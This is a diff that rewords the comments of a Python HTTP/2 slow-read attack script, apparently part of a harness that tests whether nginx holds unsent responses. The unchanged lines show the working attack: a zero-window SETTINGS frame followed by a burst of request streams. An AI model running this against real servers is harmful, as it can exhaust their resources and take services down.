@@ -1,7 +1,7 @@
-"""Runs on the attacker, as `python3 -c`: asks over HTTP/2 and leaves no window for the answers (slow read).
+"""Sends requests over HTTP/2 and leaves no window for the answers (slow read).
 
-Arguments: the address, the host's name, how many requests at once on one connection, for how many seconds. Prints how
-many of them nginx still has answers in hand for at the end.
+It runs on the attacker as `python3 -c`. Arguments: the address, the host's name, the number of requests at once on one
+connection, the seconds. Prints how many answers nginx still holds at the end.
 """
 
 import ssl
@@ -21,7 +21,7 @@ def main(address: str, name: str, many: str, seconds: str) -> None:
     context.set_alpn_protocols(["h2"])
     wire = context.wrap_socket(create_connection((address, 443), timeout=5), server_hostname=name)
     wire.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, NO_WINDOW))
-    # RFC 7541: GET, https, / and the name.
+    # These bytes are RFC 7541's GET, https, / and the name.
     asked = b"\x82\x87\x84\x01" + bytes([len(name)]) + name.encode()
     streams = range(1, 2 * int(many), 2)
     wire.sendall(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, asked) for stream in streams))
@@ -51,7 +51,7 @@ def main(address: str, name: str, many: str, seconds: str) -> None:
 
 
 def frame(kind: int, flags: int, stream: int, content: bytes) -> bytes:
-    """RFC 9113, 4.1."""
+    """Build a frame (RFC 9113, 4.1)."""
     return len(content).to_bytes(3) + pack("!BBI", kind, flags, stream) + content
 
 
